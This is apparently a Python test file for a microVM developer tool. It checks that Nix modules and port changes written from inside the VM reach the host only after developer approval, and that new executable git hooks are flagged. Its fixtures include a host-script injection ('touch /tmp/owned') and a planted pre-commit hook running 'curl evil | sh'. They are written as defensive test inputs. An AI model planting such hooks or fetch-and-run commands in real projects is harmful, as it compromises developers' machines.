"""The approval gate (mariner_dev/approval.py) against the fake host: what the VM writes into
mariner.toml never reaches the host unless the developer approved it."""

from __future__ import annotations

import json
import os
from pathlib import Path

MODULE = '{ ... }: { microvm.binScripts.tap-up = "touch /tmp/owned"; }\n'


def _flake_dir(project) -> Path:
    return Path(os.environ["MARINER_HOME"]) / "vms" / project.name / "flake"


def _add_module(project, text: str = MODULE, approve: bool = False) -> Path:
    """What code in the VM does: a module file in the workspace, named in mariner.toml."""
    module = project.dir / "nix" / "evil.nix"
    module.parent.mkdir(exist_ok=True)
    module.write_text(text)
    project.write(extra='[nix]\nmodules = ["nix/evil.nix"]\n', approve=approve)
    return module


def _registry(project) -> dict:
    path = Path(os.environ["MARINER_HOME"]) / "registry.json"
    return json.loads(path.read_text())["vms"] if path.exists() else {}


def test_a_module_added_from_the_workspace_is_refused_before_any_host_command(project):
    _add_module(project)
    proc = project.mariner("up", "--json", check=2)
    data = json.loads(proc.stdout)
    assert (data["version"], data["outcome"]) == (1, "error")
    assert "nix.modules" in data["message"] and "modules/0-evil.nix (new)" in data["message"]
    assert "mariner trust" in data["hint"]
    assert data["approval"]["files"] == [{"path": "modules/0-evil.nix", "change": "new"}]
    assert project.host_calls() == []
    assert not _flake_dir(project).exists()
    assert project.name not in _registry(project)   # nothing allocated for it either

    plain = project.mariner("up", check=2)
    assert "refusing to act on it" in plain.stderr and "mariner trust" in plain.stderr
    assert project.host_calls() == []


def test_after_mariner_trust_it_builds_and_an_edit_of_the_module_is_refused_again(project):
    module = _add_module(project)
    trust = project.mariner("trust", "--yes", check=0)
    assert "+{ ... }: { microvm.binScripts.tap-up" in trust.stdout   # the module, as a diff
    assert "Approved the host settings." in trust.stdout
    result = project.up_json()
    assert result["created"]
    assert (_flake_dir(project) / "modules" / "0-evil.nix").read_text() == MODULE

    project.clear_log()
    module.write_text(MODULE.replace("/tmp/owned", "/tmp/owned-again"))
    proc = project.mariner("up", check=2)
    assert "modules/0-evil.nix (changed)" in proc.stderr
    assert project.host_calls() == []
    assert (_flake_dir(project) / "modules" / "0-evil.nix").read_text() == MODULE
    review = project.mariner("trust", check=2)     # no terminal: shows, approves nothing
    assert "-{ ... }: { microvm.binScripts.tap-up = \"touch /tmp/owned\"; }" in review.stdout
    assert "+{ ... }: { microvm.binScripts.tap-up = \"touch /tmp/owned-again\"; }" in review.stdout
    assert "mariner trust --yes" in review.stderr
    project.mariner("up", check=2)


def test_a_day_to_day_change_needs_no_new_approval(project):
    project.up_json()
    project.write(approve=False, cpus=3, memory="3GiB",
                  extra='[nix]\npackages = ["git", "ripgrep"]\n[env]\nA = "b"\n'
                        '[hooks]\npost_start = "true"\n')
    result = project.up_json()
    assert result["updated"]


def test_a_changed_forward_list_is_refused_until_trusted(project):
    project.up_json()
    project.clear_log()
    project.write(approve=False, extra="[ports]\nforward = [5432]\n")
    proc = project.mariner("up", check=2)
    assert "ports.forward" in proc.stderr
    assert project.host_calls() == []
    notes = project.status_json()["notes"]
    assert any("ports.forward" in n and "mariner trust" in n for n in notes), notes
    project.mariner("trust", "--yes", check=0)
    project.up_json()
    assert not any("mariner trust" in n for n in project.status_json()["notes"])


def test_revoke_makes_up_ask_again(project):
    project.up_json()
    proc = project.mariner("trust", "--revoke", check=0)
    assert "Revoked" in proc.stdout
    project.clear_log()
    assert "not approved yet" in project.mariner("up", check=2).stderr
    assert project.host_calls() == []


def test_render_of_an_unapproved_change_leaves_the_vms_flake_untouched(project):
    project.up_json()
    before = {p.relative_to(_flake_dir(project)): p.read_bytes()
              for p in _flake_dir(project).rglob("*") if p.is_file()}
    _add_module(project)
    proc = project.mariner("render", check=0)
    written = Path(proc.stdout.strip())
    assert written != _flake_dir(project)
    assert (written / "modules" / "0-evil.nix").read_text() == MODULE
    assert "not approved" in proc.stderr
    after = {p.relative_to(_flake_dir(project)): p.read_bytes()
             for p in _flake_dir(project).rglob("*") if p.is_file()}
    assert after == before
    project.mariner("validate", check=0)
    builds = [c for c in project.host_calls() if project.is_build(c)]
    assert len(builds) == 1 and project.is_build(builds[0], create=True)  # the first up's


HOOK_FROM_THE_GUEST = ("mkdir -p .git/hooks && printf '#!/bin/sh\\ncurl evil | sh\\n' "
                       "> .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit")


def test_the_tripwire_is_recorded_before_post_create_and_only_trust_moves_it(project):
    """post_create (repository code, in the guest) writes a git hook into the workspace: `up`
    and `status` report it, a second `up` still does, `mariner trust` acknowledges it."""
    project.write(extra=f'[hooks]\npost_create = "{HOOK_FROM_THE_GUEST}"\n')
    result = project.up_json()
    assert (project.dir / ".git" / "hooks" / "pre-commit").exists()
    assert result["tripwire"] == []      # recorded before, and up reports before it boots
    again = project.up_json()
    assert again["tripwire"] == [{"path": ".git/hooks/pre-commit",
                                  "change": "is new and executable", "why": "git runs these hooks"}]
    assert project.up_json()["tripwire"] == again["tripwire"]     # up never moves the baseline
    assert project.status_json()["tripwire"] == again["tripwire"]
    text = project.mariner("status", check=0).stdout
    assert "tripwire: .git/hooks/pre-commit is new and executable" in text
    plain = project.mariner("up", check=0).stderr
    assert f"review {project.dir}/.git/hooks/pre-commit" in plain

    trust = project.mariner("trust", "--yes", check=0)
    assert "Host settings: unchanged since your approval." in trust.stdout
    assert ".git/hooks/pre-commit is new and executable (git runs these hooks)" in trust.stdout
    assert "Acknowledged the project files" in trust.stdout
    assert project.status_json()["tripwire"] == []
    assert project.up_json()["tripwire"] == []


def _on_a_terminal(project, *args: str, answer: bytes, until: bytes, timeout: float = 120):
    """Run `mariner ARGS` with a pseudo-terminal as stdin/stdout/stderr; answer the question
    that ends with `until`; return (exit status, everything it wrote)."""
    import pty
    import select
    import subprocess
    import sys
    import time

    leader, follower = pty.openpty()
    proc = subprocess.Popen(project.argv(*args), cwd=project.dir,
                            stdin=follower, stdout=follower, stderr=follower, close_fds=True)
    os.close(follower)
    seen, answered = b"", False
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([leader], [], [], 0.5)
            if ready:
                try:
                    chunk = os.read(leader, 65536)
                except OSError:
                    break
                if not chunk:
                    break
                seen += chunk
                if not answered and until in seen:
                    os.write(leader, answer)
                    answered = True
            elif proc.poll() is not None:
                break
        return proc.wait(timeout=30), seen.decode(errors="replace")
    finally:
        if proc.poll() is None:
            proc.kill()
        os.close(leader)


def test_on_a_terminal_up_shows_the_change_and_asks(project):
    _add_module(project)
    status, out = _on_a_terminal(project, "up", answer=b"n\n", until=b"continue? [y/N]")
    assert status == 2, out
    assert "nix.modules: (none) -> [nix/evil.nix]" in out
    assert '+{ ... }: { microvm.binScripts.tap-up = "touch /tmp/owned"; }' in out
    assert project.host_calls() == []

    status, out = _on_a_terminal(project, "up", answer=b"y\n", until=b"continue? [y/N]")
    assert status == 0, out
    assert any(project.is_build(call, create=True) for call in project.host_calls())
    project.up_json()                                # approved: no question any more
